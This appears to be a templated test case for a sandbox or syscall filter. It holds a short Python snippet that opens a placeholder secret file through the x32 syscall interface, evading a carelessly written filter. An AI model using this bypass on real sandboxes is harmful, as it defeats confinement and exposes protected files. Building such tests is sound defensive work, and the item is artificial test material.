# attack: makes a call by the x32 interface, whose numbers pass a careless filter
# class: machine
# success: said
# ends: Crashed
# machine: x86_64
import ctypes
def f(x, note):
    path = b"@secret@"
    got = ctypes.CDLL(None, use_errno=True).syscall(0x40000000 + 2, path, 0)
    return "@said@" if got >= 0 else "no"
